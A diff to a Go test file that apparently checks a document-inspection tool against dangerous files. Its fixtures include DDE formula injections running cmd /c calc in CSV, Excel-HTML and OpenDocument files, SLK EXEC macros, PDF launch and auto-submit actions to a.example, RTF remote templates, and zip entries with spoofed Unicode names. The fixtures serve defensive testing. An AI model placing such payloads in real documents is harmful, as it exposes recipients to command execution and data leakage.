@@ -139,6 +139,12 @@ func TestHarms(t *testing.T) {
 		{"a sum", "a.csv", []byte("x,=SUM(A1:A2),-5,+4,@home\n"), ""},
 		{"a feed of prices", "a.csv", []byte("x,=BLP|M!'IBM US Equity,[LAST PRICE]'\n"), ""},
 		{"bars between words", "a.csv", []byte("-a|b!,c|d (e)!,x|y!\n"), ""},
+		{"bars after a number", "a.csv", []byte("Ada,-4,\"a|b!c\"\n"), ""},
+		{"a program after a number", "a.csv", []byte("Ada,-4,=cmd|'/c calc'!A0\n"), "dde"},
+		{"a page that Excel opens", "a.xls", []byte("<html><body><table><tr><td>1<td> =cmd|&#39;/c calc&#39;!A0</td></table>"), "dde"},
+		{"a formula of a page that Excel opens", "a.xls", []byte("<html><table><tr><td x:num x:fmla=\"=cmd|'/c calc'!A0\">1</td></table>"), "dde"},
+		{"a page that Excel opens and that adds", "a.xls", []byte("<html><table><tr><td x:fmla=\"=SUM(A1:A2)\">-1</td><td>=B1</td><td>a|b!c</td></table>"), ""},
+		{"a page about tables", "a.html", []byte("<html><body><p>=cmd|'/c calc'!A0</p></body></html>"), ""},
 		{"a table of symbolic links", "a.slk", []byte("ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"calc\")\nE\n"), "auto-sheet"},
 		{"such a table that adds", "a.slk", []byte("ID;P\nC;X1;Y1;K3;ESUM(R1C1:R2C1)\nE\n"), ""},
 		{"a field of DDE", "a.docx", word(t, fieldOf(`DDEAUTO c:\\windows\\cmd.exe "/c calc"`), ""), "dde"},
@@ -170,6 +176,10 @@ func TestHarms(t *testing.T) {
 			"Basic/L/M.xml", `<script:module script:name="M">Sub Main: Shell("calc"): End Sub</script:module>`), "auto-macro macro"},
 		{"an OpenDocument", "a.odt", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml",
 			`<office:document-content><office:body><text:a xlink:href="https://a.example/">x</text:a></office:body></office:document-content>`), ""},
+		{"a table of OpenDocument that starts a program", "a.ods", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml",
+			`<office:document-content><office:body><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></office:body></office:document-content>`), "dde"},
+		{"a table of OpenDocument that adds", "a.ods", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml",
+			`<office:document-content><office:body><table:table-cell table:formula="of:=SUM([.A1:.A3])"/></office:body></office:document-content>`), ""},
 		{"an equation that loads by itself", "a.rtf", []byte(`{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000004000000aabbccdd}}}`), "equation"},
 		{"an object of another program", "a.rtf", []byte(`{\rtf1{\object\objemb{\*\objclass Paint}{\*\objdata 0105000002000000060000005061696e740000000000000000000004000000aabbccdd}}}`), ""},
 		{"a template of RTF", "a.rtf", []byte(`{\rtf1{\*\template http://a.example/x.dotm}x}`), "remote-template"},
@@ -180,6 +190,7 @@ func TestHarms(t *testing.T) {
 		{"a PDF that launches", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "launch"},
 		{"a PDF that runs a script", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.launchURL\\(\"http://a.example\"\\)) >>"), "open-script"},
 		{"a PDF that sends a form", "a.pdf", pdfWith("", "<< /S /SubmitForm /F << /FS /URL /F (https://a.example/post) >> >>"), "submit-form"},
+		{"a PDF that sends a form when it opens", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /SubmitForm /F << /FS /URL /F (https://a.example/post) >> >>"), "open-submit"},
 		{"a PDF that goes elsewhere", "a.pdf", pdfWith("", `<< /S /GoToR /F (\\\\a.example\\x\\y.pdf) >>`), "launch"},
 		{"a PDF that prints", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /JavaScript /JS (this.print\\(true\\)) >>"), ""},
 		{"a PDF with chapters", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /GoTo /D [3 0 R /Fit] >>", "<< /S /GoToR /F (chapter2.pdf) >>"), ""},
@@ -237,6 +248,11 @@ func TestTextsAndLinksOfDocuments(t *testing.T) {
 		{"a page of XPS", "a.xps", packageOf(t, "[Content_Types].xml", types("x"), "Documents/1/Pages/1.fpage", `<FixedPage><Glyphs UnicodeString="Pay now" FixedPage.NavigateUri="http://a.example/pay"/></FixedPage>`), "Pay now", "http://a.example/pay"},
 		{"the XML of Word 2003", "a.doc", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:p><w:hlink w:dest="http://a.example/w"><w:t>Open</w:t></w:hlink></w:p></w:wordDocument>`), "Open", "http://a.example/w"},
 		{"the XML of Excel 2003", "a.xls", []byte(`<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:HRef="http://a.example/e"><Data>Open</Data></Cell></Workbook>`), "Open", "http://a.example/e"},
+		{"an address in pieces", "a.csv", []byte("a,\"=HYPERLINK(\"\"http://a.exam\"\" & \"\"ple/p\"\",\"\"x & y\"\")\"\n"), "", "http://a.example/p"},
+		{"an address in pieces of a workbook", "a.xlsx", excel(t, "", `<c><f>HYPERLINK("http://a."&amp;"example/"&amp;"p","x")</f></c>`), "", "http://a.example/p"},
+		{"a page that Excel opens", "a.xls", []byte(`<html><table><tr><td>=HYPERLINK("http://a.example/h","x")</table>`), "", "http://a.example/h"},
+		{"a PDF that launches an address", "a.pdf", pdfWith("", "<< /S /Launch /F << /FS /URL /F (http://a.example/l) >> >>"), "", "http://a.example/l"},
+		{"a script of a PDF", "a.pdf", pdfWith("", `<< /S /JavaScript /JS (app.launchURL\("http://a.example/s"\)) >>`), "", "http://a.example/s"},
 		{"a formula of a table", "a.csv", []byte("a,\"=HYPERLINK(\"\"http://a.example/c\"\",\"\"x\"\")\"\n"), "", "http://a.example/c"},
 	} {
 		d := inspect(tt.file, tt.data).Files[0].Document
@@ -258,6 +274,34 @@ func TestBothNamesOfAnEntry(t *testing.T) {
 	copy(slash[30:], `a\b.txt`)
 	if got := harms(inspect("a.zip", slash)); got != "" {
 		t.Errorf("another separator: %s", got)
+	}
+}
+
+// APPNOTE 4.6.9: the extra field tells the name in UTF-8, with the checksum of the name in the header.
+func TestTheUnicodeNameOfAnEntry(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		name, header, unicode string
+		sum                   uint32
+		want                  string
+	}{
+		{"another extension", "plan.txt", "plan.js", 0, "two-names"},
+		{"the same name", "pl\x84ne.txt", "pläne.txt", 0, ""},
+		{"a checksum of another name", "plan.txt", "plan.js", 1, ""},
+	} {
+		var b bytes.Buffer
+		w := zip.NewWriter(&b)
+		extra := binary.LittleEndian.AppendUint32([]byte{0x75, 0x70, byte(5 + len(tt.unicode)), 0, 1}, crc32.ChecksumIEEE([]byte(tt.header))+tt.sum)
+		if _, err := w.CreateHeader(&zip.FileHeader{Name: tt.header, NonUTF8: true, Extra: append(extra, tt.unicode...)}); err != nil {
+			t.Fatal(err)
+		}
+		if err := w.Close(); err != nil {
+			t.Fatal(err)
+		}
+		r := inspect("a.zip", b.Bytes())
+		if got := harms(r); got != tt.want || tt.want != "" && !strings.Contains(names(r), tt.unicode) {
+			t.Errorf("%s: %q, %s", tt.name, got, names(r))
+		}
 	}
 }
 
